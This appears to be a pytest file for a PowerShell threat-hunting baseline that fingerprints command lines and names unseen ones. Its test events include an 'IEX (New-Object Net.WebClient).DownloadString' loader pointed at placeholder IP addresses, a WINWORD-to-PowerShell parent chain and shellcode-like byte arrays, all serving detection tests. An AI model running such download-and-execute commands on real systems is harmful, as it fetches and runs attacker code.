import pandas as pd
import pytest

from app.hunting import baseline, powershell

LOADER = "powershell IEX (New-Object Net.WebClient).DownloadString('http://{}/a.ps1')"
EVENTS = pd.DataFrame(
    {
        "_time": ["2026-01-01T00:00:00Z", "2026-01-03T00:00:00Z", "2026-01-02T00:00:00Z"],
        "host": ["a", "B", "b"],
        "ParentImage": [r"C:\Windows\explorer.exe"] * 3,
        "Image": [r"C:\x\powershell.exe"] * 3,
        "line": [LOADER.format("192.0.2.1"), LOADER.format("192.0.2.99"), "ipconfig /all"],
    }
)


def seen_in(events: pd.DataFrame) -> pd.DataFrame:
    annotated = powershell.annotate(events, "line")
    return baseline.sightings(events, annotated, "line")


def annotated(events: pd.DataFrame, known: baseline.Baseline) -> list[tuple[object, ...]]:
    result = baseline.annotate(seen_in(events), known, len(events))
    return list(result.itertuples(index=False, name=None))


KNOWN = baseline.learn(seen_in(EVENTS))


def test_scripts_that_differ_in_numbers_only_are_the_same() -> None:
    assert annotated(EVENTS, KNOWN) == [
        ("2026-01-01T00:00:00Z", 2, 2, ""),
        ("2026-01-01T00:00:00Z", 2, 2, ""),
        ("2026-01-02T00:00:00Z", 1, 1, ""),
    ]


def test_what_was_never_seen_is_named() -> None:
    events = pd.DataFrame(
        {
            "ParentImage": [r"C:\Office\WINWORD.EXE", r"C:\Windows\explorer.exe"],
            "Image": [r"C:\x\powershell.exe"] * 2,
            "line": [LOADER.format("203.0.113.9"), "whoami /priv"],
        }
    )
    assert annotated(events, KNOWN) == [
        (
            "2026-01-01T00:00:00Z",
            2,
            2,
            "203.0.113.9|http://203.0.113.9/a.ps1|winword.exe > powershell.exe",
        ),
        ("", 0, 0, "script"),
    ]


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("$abc = 1; iex $abc", "$Xyz=22;  iex $xyz".replace("=", " = ")),
        ("[byte[]]$b = 0xfc,0xe8,0x82,0x00,0x11", "[byte[]]$b = 0x90,0x31,0xd2,0x65"),
        (f"iex '{'A' * 90}'", f"iex '{'b' * 120}'"),
    ],
)
def test_fingerprint_leaves_out_what_is_made_up_anew(first: str, second: str) -> None:
    assert baseline.fingerprint(first) == baseline.fingerprint(second)


def test_fingerprint_keeps_what_a_script_does() -> None:
    assert baseline.fingerprint("Get-Process a") != baseline.fingerprint("Stop-Process a")


def test_learning_in_two_steps_is_learning_at_once() -> None:
    halves = baseline.learn(seen_in(EVENTS.iloc[1:]), baseline.learn(seen_in(EVENTS.iloc[:1])))
    assert annotated(EVENTS, halves) == annotated(EVENTS, KNOWN)
    assert (halves.pairs.tolist(), halves.keys.tolist()) == (
        KNOWN.pairs.tolist(),
        KNOWN.keys.tolist(),
    )


def test_baseline_is_bounded_and_forgets_the_oldest(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(baseline, "MAX_KNOWN", 3)
    events = pd.DataFrame(
        {"_time": range(10), "host": [f"h{n}" for n in range(10)], "line": [*"abcdefghij"]}
    )
    known = baseline.learn(seen_in(events))
    assert len(known.keys) == 3
    assert [row[1] for row in annotated(events, known)] == [0] * 7 + [1] * 3


def test_baseline_of_nothing_knows_nothing() -> None:
    empty = EVENTS.iloc[:0]
    known = baseline.learn(seen_in(empty))
    assert annotated(empty, known) == []
    assert annotated(EVENTS.iloc[2:][["line"]].reset_index(drop=True), known)[0][:3] == ("", 0, 0)


def test_saved_baseline_is_the_same_and_holds_no_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    baseline.save(tmp_path / "m", KNOWN, {"delim": "|"})
    known, options = baseline.load(tmp_path / "m")
    assert annotated(EVENTS, known) == annotated(EVENTS, KNOWN)
    assert options == {"delim": "|"}
    [file] = tmp_path.iterdir()
    assert b"192.0.2.1" not in file.read_bytes()


def test_field_that_comes_twice_counts_once() -> None:
    twice = pd.concat([EVENTS, EVENTS[["host"]]], axis=1)
    assert annotated(twice, baseline.learn(seen_in(twice))) == annotated(EVENTS, KNOWN)
